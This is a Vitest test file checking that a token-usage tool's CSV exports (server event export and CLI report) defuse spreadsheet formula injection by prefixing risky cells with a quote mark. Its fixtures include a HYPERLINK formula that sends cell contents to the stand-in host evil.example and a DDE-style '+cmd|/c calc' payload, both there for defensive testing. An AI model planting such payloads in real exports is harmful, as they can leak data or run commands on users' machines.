/**
 * CSV exports are safe to open in a spreadsheet: agent, model, run and tag values that begin
 * with `=`, `+`, `-`, `@`, a tab or a carriage return (CSV injection) come out with a leading
 * `'`, in the server's event export and in `tokenledger report --format csv`; numbers stay
 * numbers.
 */
import { describe, expect, it } from 'vitest';
import { csvCell } from '#src/analytics/index.js';
import { toCsv } from '#src/cli/commands/report.js';
import { jsonPost, makeApp } from './helpers.js';

const HOSTILE = {
  agent: '=HYPERLINK("http://evil.example/?"&A1,"open")',
  model: '+cmd|/c calc',
  run: '-2+3',
  team: '@SUM(A1:A9)',
  tab: '\tx',
  cr: '\rx',
};

describe('formula-leading cells are defused', () => {
  it('GET /analytics/events?format=csv: every client-sent text cell starts with a quote mark', async () => {
    const server = await makeApp();
    const response = await server.request(
      '/v1/usage',
      jsonPost({
        id: '01JCSVINJECT0000000000001',
        time: '2026-12-01T10:00:00.000Z',
        provider: 'openai',
        model: HOSTILE.model,
        agent: HOSTILE.agent,
        run: HOSTILE.run,
        tags: { team: HOSTILE.team },
        usage: { inputTokens: 100, outputTokens: 20 },
      }),
    );
    expect(response.status).toBe(200);
    const csv = await (await server.request('/analytics/events?format=csv')).text();
    const [header, row] = csv.trimEnd().split('\n');
    const columns = header!.split(',');
    const cell = (name: string): string => {
      // The row has quoted cells with commas inside; split on commas outside quotes.
      const cells = row!.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((part) => part.replace(/,$/, ''));
      return cells[columns.indexOf(name)]!;
    };
    expect(cell('agent')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(cell('model')).toBe(`'+cmd|/c calc`);
    expect(cell('run')).toBe(`'-2+3`);
    expect(cell('tags')).toBe(`"{""team"":""@SUM(A1:A9)""}"`);
    expect(cell('inputTokens')).toBe('100');
    expect(cell('outputTokens')).toBe('20');
  });

  it('csvCell: each formula start, tab and CR; ordinary text and numbers untouched', () => {
    expect(
      ['=1+1', '+1', '-1', '@A1', HOSTILE.tab, HOSTILE.cr, 'gpt-4o-mini', 'a=b', ''].map((value) => csvCell(value)),
    ).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", `"'\rx"`, 'gpt-4o-mini', 'a=b', '']);
    expect([csvCell(-5), csvCell(0.25), csvCell(true), csvCell(null), csvCell(undefined)]).toEqual([
      '-5',
      '0.25',
      'true',
      '',
      '',
    ]);
  });

  it('tokenledger report --format csv (toCsv) defuses them too', () => {
    const csv = toCsv([{ agent: HOSTILE.agent, models: ['-x', 'gpt-4o'], calls: 3 }], {
      agent: '',
      models: [],
      calls: 0,
    });
    expect(csv).toBe(`agent,models,calls\n"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'-x;gpt-4o,3`);
  });
});
